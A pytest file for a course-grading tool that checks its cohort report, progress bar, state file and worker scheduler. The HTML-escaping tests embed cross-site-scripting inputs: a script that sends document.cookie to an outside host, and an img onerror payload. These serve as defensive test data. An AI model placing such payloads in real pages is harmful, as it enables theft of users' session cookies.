"""The parts ``cxlab grade`` and ``cxlab report`` are built from, each on its own: the cohort
report's template, the progress bar, the warm-up's failures, the state file and the worker
scheduler."""

from __future__ import annotations

import io
import json
import logging
import os
import threading
from importlib.resources import files
from pathlib import Path

import pytest

from cxlab.grading import _scheduler
from cxlab.grading._state import GradingState, fingerprint, load_state
from cxlab.grading.grade import GradingSummary, _Paper, _progress_bar, _warm_up
from cxlab.grading.marking import Key
from cxlab.grading.report import CohortReport, _html
from tests.conftest import ROOT


# -- the report's template --------------------------------------------------------------------
def _report(**changes) -> CohortReport:
    rep = CohortReport("01-service-level", Path("."))
    rep.grades = [{"participant_id": "ann", "total": 1.0, "max": 2.0, "percent": 50.0,
                   "to_mark_by_hand": 0},
                  {"participant_id": "bob", "total": 2.0, "max": 2.0, "percent": 100.0,
                   "to_mark_by_hand": 0}]
    for name, value in changes.items():
        setattr(rep, name, value)
    return rep


def test_the_template_ships_as_package_data() -> None:
    assert files("cxlab.grading").joinpath("templates", "cohort_report.html.j2").is_file()
    pyproject = (ROOT / "pyproject.toml").read_text(encoding="utf-8")
    assert '"cxlab.grading" = ["templates/*.html.j2"]' in pyproject


def test_a_written_answer_with_a_script_is_shown_as_text() -> None:
    evil = "<script>fetch('https://example.org/?c=' + document.cookie)</script> pool the queues"
    rep = _report(copying_written=[{"question": "q11_written", "participant_a": "ann",
                                    "participant_b": "bob", "similarity": 0.95,
                                    "text_a": evil, "text_b": evil + " & more"}])
    page = _html(rep, ["", ""])
    assert "<script" not in page
    # escaped as html.escape does: < > & and both quotes
    assert ("<td class=\"text\">&lt;script&gt;fetch(&#x27;https://example.org/?c=&#x27; + "
            "document.cookie)&lt;/script&gt; pool the queues &amp; more</td>") in page
    assert "<td>0.950</td>" in page  # the similarity, three decimals


def test_names_and_the_assignment_are_escaped_everywhere() -> None:
    rep = _report(assignment="<i>x</i>", not_graded=[{"participant_id": "<b>zed</b>",
                                                       "reason": "an \"empty\" file"}])
    rep.grades[0]["participant_id"] = "<img src=x onerror=alert(1)>"
    page = _html(rep, ["", ""])
    assert "<i>" not in page and "<b>" not in page and "<img src=x" not in page
    assert "<title>Cohort report: &lt;i&gt;x&lt;/i&gt;</title>" in page
    assert "<td>&lt;b&gt;zed&lt;/b&gt;</td><td>an &quot;empty&quot; file</td>" in page


def test_the_pages_sections_follow_the_report() -> None:
    plain = _html(_report(), ["AAA", "BBB"])
    # 2 participants at 50% and 100%: mean 75.0, median 75.0
    assert "2 participants; mean 75.0%, median\n75.0%, lowest 50.0%, highest 100.0%." in plain
    assert 'src="data:image/png;base64,AAA"' in plain and 'src="data:image/png;base64,BBB"' in plain
    assert ("<h2>Grades</h2><table><tr><th>participant_id</th><th>total</th><th>max</th>"
            "<th>percent</th><th>to_mark_by_hand</th></tr><tr><td>ann</td><td>1.0</td>"
            "<td>2.0</td><td>50.0</td><td>0</td></tr>") in plain
    for absent in ("Not final yet", "another participant's case", "Not graded",
                   "numbers of their own"):
        assert absent not in plain
    waiting = _report(personal=True)
    waiting.grades[1]["to_mark_by_hand"] = 2
    page = _html(waiting, ["", ""])
    assert "<strong>Not final yet:</strong> 1 of 2 participants" in page
    assert "fit another participant's case better" in page and "numbers of their own" in page


# -- the progress bar --------------------------------------------------------------------------
@pytest.mark.parametrize(("enabled", "shown"), [(None, False), (True, True), (False, False)])
def test_the_progress_bar_is_off_when_not_a_terminal_unless_asked(enabled, shown) -> None:
    stream = io.StringIO()  # not a terminal
    with _progress_bar(3, enabled=enabled, desc="00-start-here", file=stream) as bar:
        for _ in range(3):
            bar.set_postfix(failed=0, refresh=False)
            bar.update(1)
    assert ("00-start-here: 100%" in stream.getvalue() and "3/3" in stream.getvalue()) is shown
    assert bool(stream.getvalue()) is shown


# -- the warm-up --------------------------------------------------------------------------------
def _paper(setup: str) -> _Paper:
    key = Key(notebook="broken", answers=(), tests=(), setup=(setup,), written=())
    return _Paper("broken.ipynb", key, {"cells": []})


def test_a_failing_set_up_in_the_warm_up_is_named_logged_and_summarised(caplog) -> None:
    with caplog.at_level(logging.WARNING, logger="cxlab.grading.grade"):
        warnings = _warm_up([_paper("raise RuntimeError('no data file')")])
    assert warnings == ["broken.ipynb: a set-up cell failed in the grader "
                        "(RuntimeError: no data file)"]
    assert [r.getMessage() for r in caplog.records] == [f"cxlab grade: {warnings[0]}"]
    summary = GradingSummary(sandbox="Marked from the answers.", warnings=warnings)
    assert "WARNING: broken.ipynb: a set-up cell failed" in str(summary)
    assert _warm_up([_paper("x = 1")]) == []


# -- the state file ---------------------------------------------------------------------------
class _Course:
    """What the state needs of a course: its root, ``.cxlab`` and nbgrader folders."""

    def __init__(self, root: Path) -> None:
        self.root = root

    def state_dir(self) -> Path:
        (self.root / ".cxlab").mkdir(exist_ok=True)
        return self.root / ".cxlab"

    def folder(self, name: str) -> Path:
        return self.root / name


def test_the_state_skips_only_what_was_graded_with_the_same_fingerprint(tmp_path) -> None:
    course = _Course(tmp_path)
    sub = tmp_path / "submitted" / "ann" / "a1"
    sub.mkdir(parents=True)
    (sub / "a1.ipynb").write_text("{}")
    print_ = fingerprint(sub, [])
    state = GradingState.load(course, "a1")
    state.record("ann", print_, status="graded", score=3.0, max_score=4.0, reason="")
    state.record("bob", "other", status="failed", score=None, max_score=None, reason="empty")
    again = GradingState.load(course, "a1")
    assert again.entries == state.entries
    assert again.unchanged("ann", print_) is None  # no autograded copy: grade again
    (tmp_path / "autograded" / "ann" / "a1").mkdir(parents=True)
    assert again.unchanged("ann", print_)["score"] == 3.0
    assert again.unchanged("ann", print_ + "+x") is None
    assert again.unchanged("bob", "other") is None  # failed last time
    (sub / "a1.ipynb").write_text('{"cells": []}')
    assert fingerprint(sub, []) != print_


def test_a_second_grader_keeps_the_first_graders_entries(tmp_path) -> None:
    course = _Course(tmp_path)
    first, second = GradingState.load(course, "a1"), GradingState.load(course, "a1")
    first.record("ann", "f1", status="graded", score=1.0, max_score=2.0, reason="")
    second.record("bob", "f2", status="graded", score=2.0, max_score=2.0, reason="")
    assert set(load_state(second.path)) == {"ann", "bob"}
    second.write_marks("bob", {"marks": {}, "notes": []})
    marks = tmp_path / ".cxlab" / "marks" / "a1" / "bob.json"
    assert json.loads(marks.read_text()) == {"marks": {}, "notes": []}


def test_an_unreadable_state_file_reads_as_empty(tmp_path) -> None:
    (tmp_path / "state.json").write_text("[1, 2")
    assert load_state(tmp_path / "state.json") == {}
    assert load_state(tmp_path / "missing.json") == {}


# -- the scheduler ----------------------------------------------------------------------------
def _work(task, slot, report) -> dict:
    if task == "die":
        os._exit(3)
    if task == "hang":
        threading.Event().wait()  # never set: only the scheduler's time limit ends it
    return {"task": task, "slot": slot}


def test_the_scheduler_reports_each_task_and_the_ones_that_died_or_hung() -> None:
    results = {}
    _scheduler.run(["a", "die", "hang", "b"], _work,
                   lambda task, result, seconds: results.update({task: result}),
                   schedule=_scheduler.Schedule(jobs=2, timeout_seconds=0.2, grace_seconds=0))
    assert results["a"]["task"] == "a" and results["b"]["task"] == "b"
    assert {results["a"]["slot"], results["b"]["slot"]} <= {0, 1}
    assert results["die"] == {"error": "the worker process died unexpectedly (exit code 3)"}
    assert results["hang"] == {"error": "the submission did not finish within 0.2 s and was "
                                        "stopped"}
